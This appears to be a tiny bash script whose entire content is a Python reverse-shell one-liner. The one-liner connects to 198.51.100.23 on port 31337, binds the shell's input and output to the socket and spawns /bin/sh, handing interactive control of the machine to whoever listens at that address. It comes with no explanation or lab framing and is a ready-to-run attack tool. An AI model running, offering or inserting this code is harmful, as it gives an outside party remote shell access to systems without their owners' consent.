#!/usr/bin/env bash
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.23",31337));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
